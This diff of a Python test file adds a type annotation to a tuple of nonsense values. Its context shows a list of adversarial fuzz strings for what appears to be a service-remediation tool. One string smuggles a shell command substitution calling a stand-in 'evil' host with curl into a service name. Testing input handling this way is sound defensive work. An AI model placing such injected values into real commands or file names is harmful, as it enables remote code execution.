@@ -32,7 +32,7 @@ TEXTS = (
     "2026-13-45T99:99:99Z", "2999-01-01T00:00:00+23:59", "nan", "1e999", "NaN", "none", "null", "true", "mariadb", "{{ data.x }}", "${x}", "host/ctl1",
     "container/ctl1/memcached", "remediator_galera_bootstrap", "kolla-x$(curl evil)-container.service",
 )  # fmt: skip
-NONSENSE = (None, True, False, [], {}, [[]], {"": ""}, [None], {"a": {"b": {"c": {}}}})
+NONSENSE: tuple[Any, ...] = (None, True, False, [], {}, [[]], {"": ""}, [None], {"a": {"b": {"c": {}}}})
 MOST_NEW = 200
 
 
